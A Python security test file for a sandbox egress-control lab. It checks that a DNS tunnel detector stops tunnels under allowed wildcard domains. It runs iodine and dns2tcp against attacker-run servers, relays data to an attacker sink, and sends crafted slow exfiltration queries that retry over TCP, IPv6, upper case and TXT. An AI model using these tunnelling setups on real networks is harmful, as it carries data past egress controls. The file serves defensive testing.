"""Issue 9.2: a DNS tunnel under an allowed wildcard keeps going after the detector's first finding.

iodine (the real tool) against an iodined the attacker runs in the internet namespace, its zone (``i1.lab``...)
delegated by the lab authority (egress/lab/delegation.py) and allowed by a wildcard (``*.i1.lab``); and a slow
tunnel crafted with the DNS codec (one query every 2 s under ``*.t.lab``) that goes on over TCP, over IPv6 and
with ordinary names once found. Judged by the internet-side capture: after the finding no query under the
domain reaches the resolver's upstream (ns.lab), iodine never completes its handshake or moves a byte, and Redis
holds the ``dns-tunnel`` record, with the refusals of the hold counted under the base domain.
"""

from __future__ import annotations

import contextlib
import json
import pathlib
import sys
import time
import uuid

import pytest

from egress.lab.topology import GATEWAY_SBX_V4, INTERNET_V4, server
from egress.record.schema import AttemptRecord
from tests.security.conftest import LabFactory
from tests.security.harness import POLICIES, Attacker, Capture, Crossed, SecurityLab, report
from tests.waiting import eventually

pytestmark = pytest.mark.security

NS = server("ns").v4
POLICY = POLICIES / "dns.yaml"
IODINE_PORT = 5300
IODINE_PASSWORD = "egress-lab-tunnel"


@pytest.fixture(scope="module")
def dns_lab(lab_factory: LabFactory) -> SecurityLab:
    return lab_factory(POLICY)


def _zone_bytes(zone: str) -> bytes:
    return b"".join(bytes([len(label)]) + label.encode() for label in zone.split(".")) + b"\0"


def _queries_to_upstream(crossed_payload: dict[tuple[str, str, int], bytes], zone: str) -> int:
    """Queries under ``zone`` that reached ns.lab (UDP and TCP; names in any letter case)."""
    wire = _zone_bytes(zone).lower()
    return sum(data.lower().count(wire) for flow, data in crossed_payload.items() if flow[1] == NS and flow[2] == 53)


@pytest.mark.parametrize(
    ("qtype", "base"), [("NULL", "i1.lab"), ("TXT", "i2.lab"), ("CNAME", "i3.lab"), ("A", "i4.lab")]
)
def test_iodine_under_an_allowed_wildcard(dns_lab: SecurityLab, qtype: str, base: str) -> None:
    zone = f"{qtype.lower()}.{base}"  # a base domain per variant: a found one stays held for the hour
    state = dns_lab.lab.state_dir / "delegations.json"
    state.write_text(json.dumps({base: [INTERNET_V4, IODINE_PORT]}))
    daemon = dns_lab.attacker(
        f"iodined-{qtype}",
        ["iodined", "-f", "-c", "-P", IODINE_PASSWORD, "-l", INTERNET_V4, "-p", str(IODINE_PORT),
         "-d", "dnsi0", "10.99.0.1/27", zone],
    )  # fmt: skip
    daemon.wait_for("Listening to dns for domain")
    since = time.time()
    argv = ["iodine", "-f", "-r", "-T", qtype, "-P", IODINE_PASSWORD, "-d", "dnsc0", GATEWAY_SBX_V4, zone]
    with dns_lab.capture(f"iodine-{qtype}-first") as capture:
        first, moved_first = _run_iodine(dns_lab, f"iodine-{qtype}", argv)
    before = _queries_to_upstream(_result(capture).payload, base)
    with dns_lab.capture(f"iodine-{qtype}-again") as capture:
        again, moved_again = _run_iodine(dns_lab, f"iodine-{qtype}-again", argv)  # the agent simply retries
        dig = dns_lab.sandbox(["dig", f"@{GATEWAY_SBX_V4}", "+tries=1", "+time=3", f"www.{zone}", "A"])
    held = _result(capture)
    after = _queries_to_upstream(held.payload, base)
    leaked = sum(len(data) for flow, data in held.payload.items() if flow[1] == NS) if after else 0
    logs = first.log() + again.log()
    goal = "Connection setup complete" in logs or moved_first or moved_again

    def counted(record: AttemptRecord) -> bool:
        return record.host == base and record.reason == "dns-tunnel" and record.count > 1

    try:
        records = dns_lab.records_until(since, lambda rs: any(counted(r) for r in rs))
    except AssertionError:  # reported below, then failed on
        records = []
    held_record = next((r for r in records if counted(r)), None)
    refused = held_record.count if held_record is not None else 0
    note = f"{before} queries before the finding, {after} after; {refused} refused in the record"
    report(f"dns/iodine-{qtype}", "dns-tunnel", leaked, goal, str(held_record.reason) if held_record else None, note)
    daemon.stop()
    assert after == 0, held.table()
    assert not goal, logs[-3000:]
    assert "status: REFUSED" in dig.stdout, dig.stdout
    assert held_record is not None


def _result(capture: Capture) -> Crossed:
    assert capture.result is not None
    return capture.result


def _run_iodine(lab: SecurityLab, name: str, argv: list[str]) -> tuple[Attacker, bool]:
    """Run iodine until it gives up (it does once every query is refused) or its tunnel is up; if it is up, ping
    the server's tunnel address through it. Returns iodine and whether payload crossed the tunnel."""
    client = lab.attacker(name, argv, where="sandbox")

    def settled() -> bool:
        up = "Connection setup complete" in client.log()
        assert up or client.process.poll() is not None, f"iodine still trying: {client.log()[-300:]}"
        return True

    with contextlib.suppress(AssertionError):  # still probing after two minutes: judged on what crossed meanwhile
        eventually(settled, timeout=120.0, interval=0.5)
    moved = False
    if "Connection setup complete" in client.log():
        moved = lab.sandbox(["ping", "-c", "3", "-W", "2", "10.99.0.1"], timeout=20).returncode == 0
    client.stop()
    return client, moved


SINK = r"""
import socket, sys
server = socket.create_server((sys.argv[1], int(sys.argv[2])))
print("sink listening", flush=True)
while True:
    conn, _ = server.accept()
    with conn:
        while data := conn.recv(65536):
            print("got", data.decode(errors="replace"), flush=True)
"""

FEED = r"""
import socket, sys, time
for _ in range(int(sys.argv[2])):
    try:
        with socket.create_connection(("127.0.0.1", 2222), timeout=3) as conn:
            conn.sendall(sys.argv[1].encode() * 20)
            time.sleep(1)
    except OSError as error:
        print("feed failed", error, flush=True)
        time.sleep(1)
"""


def test_dns2tcp_under_an_allowed_wildcard(dns_lab: SecurityLab, tmp_path: pathlib.Path) -> None:
    """dns2tcp (TXT, base64 labels) relaying a TCP stream to the attacker's sink through a delegated zone."""
    base, marker = "i5.lab", "d" + uuid.uuid4().hex[:12]
    (dns_lab.lab.state_dir / "delegations.json").write_text(json.dumps({base: [INTERNET_V4, 5302]}))
    config = tmp_path / "dns2tcpd.conf"
    config.write_text(f"listen = {INTERNET_V4}\nport = 5302\ndomain = {base}\nresources = sink:{INTERNET_V4}:7000\n")
    sink = dns_lab.attacker("dns2tcp-sink", [sys.executable, "-c", SINK, INTERNET_V4, "7000"])
    sink.wait_for("sink listening")
    daemon = dns_lab.attacker("dns2tcpd", ["dns2tcpd", "-F", "-d", "1", "-f", str(config)])
    since = time.time()
    with dns_lab.capture("dns2tcp-first") as capture:
        client = dns_lab.attacker(
            "dns2tcpc", ["dns2tcpc", "-z", base, "-r", "sink", "-l", "2222", GATEWAY_SBX_V4], where="sandbox"
        )
        dns_lab.sandbox_python(FEED, marker, "5", timeout=60)
    before = _queries_to_upstream(_result(capture).payload, base)
    with dns_lab.capture("dns2tcp-again") as capture:
        dns_lab.sandbox_python(FEED, marker, "5", timeout=60)  # the agent keeps feeding its tunnel
    held = _result(capture)
    after = _queries_to_upstream(held.payload, base)
    leaked = sum(len(data) for flow, data in held.payload.items() if flow[1] == NS) if after else 0
    goal = marker in sink.log()
    reason = dns_lab.reason_of(since, lambda r: r.host.endswith(base) and r.reason in ("dns-tunnel", "dns-malformed"))
    report("dns/dns2tcp-TXT", "dns-tunnel", leaked, goal, reason, f"{before} queries before the finding, {after} after")
    client.stop()
    daemon.stop()
    assert after == 0, held.table()
    assert not goal, sink.log()[-1000:]
    assert reason in ("dns-tunnel", "dns-malformed")


SLOW = r"""
import socket, struct, sys, time
from egress.detect import dns
marker, gateway, gateway6 = sys.argv[1], sys.argv[2], sys.argv[3]

def ask(name, qtype=dns.A, server=gateway, tcp=False):
    query = dns.build_query(7, name, qtype)
    family = socket.AF_INET6 if ":" in server else socket.AF_INET
    with socket.socket(family, socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM) as sock:
        sock.settimeout(5)
        if tcp:
            sock.connect((server, 53))
            sock.sendall(dns.tcp_frame(query))
            length = struct.unpack(">H", sock.recv(2))[0]
            data = b""
            while len(data) < length:
                data += sock.recv(length - len(data))
        else:
            sock.sendto(query, (server, 53))
            data = sock.recv(65535)
    return dns.parse(data).rcode

for n in range(8):  # slow: one query every 2 s, each a new base32-looking label carrying the marker
    print("tunnel", n, ask(f"{marker}{n:02d}abcdefghij2345.t.lab"), flush=True)
    time.sleep(2)
for how, name, kwargs in [
    ("tcp", f"www{marker}.t.lab", {"tcp": True}),
    ("ipv6", f"www{marker}.t.lab", {"server": gateway6}),
    ("case", f"WWW{marker}.T.LAB", {}),
    ("txt", f"mail{marker}.t.lab", {"qtype": dns.TXT}),
]:
    print("after", how, ask(name, **kwargs), flush=True)
"""


def test_slow_tunnel_stays_refused_over_every_transport(dns_lab: SecurityLab) -> None:
    """Crafted slow exfiltration under *.t.lab; once found, ordinary names under t.lab over TCP, IPv6, in upper
    case or of another type (from another source address: state is the sandbox's) never reach ns.lab."""
    marker = "m" + uuid.uuid4().hex[:8]
    since = time.time()
    with dns_lab.capture("dns-slow-tunnel") as capture:
        done = dns_lab.sandbox_python(SLOW, marker, GATEWAY_SBX_V4, "fd00:203:1::1", timeout=90)
    crossed = capture.result
    assert crossed is not None
    lines = [line.split() for line in done.stdout.splitlines()]
    rcodes = [int(words[-1]) for words in lines if words and words[0] in ("tunnel", "after")]
    after = [int(words[-1]) for words in lines if words and words[0] == "after"]
    passed = [data.lower().count(marker.encode()) for flow, data in crossed.payload.items() if flow[1] == NS]
    reason = dns_lab.reason_of(since, lambda r: r.reason == "dns-tunnel" and "t.lab" in r.host)
    crossed_after = sum(
        data.lower().count(f"www{marker}".encode()) + data.lower().count(f"mail{marker}".encode())
        for data in crossed.payload.values()
    )
    leaked = crossed_after * (len(marker) + 4)
    report("dns/slow-tunnel-hold", "dns-tunnel", leaked, crossed_after > 0, reason, f"{sum(passed)} before the finding")
    assert len(rcodes) == 12, done.stdout + done.stderr
    assert 5 in rcodes[:8], done.stdout  # the slow tunnel itself is found
    assert after == [5, 5, 5, 5], done.stdout
    assert crossed_after == 0, crossed.table()
    assert reason == "dns-tunnel"
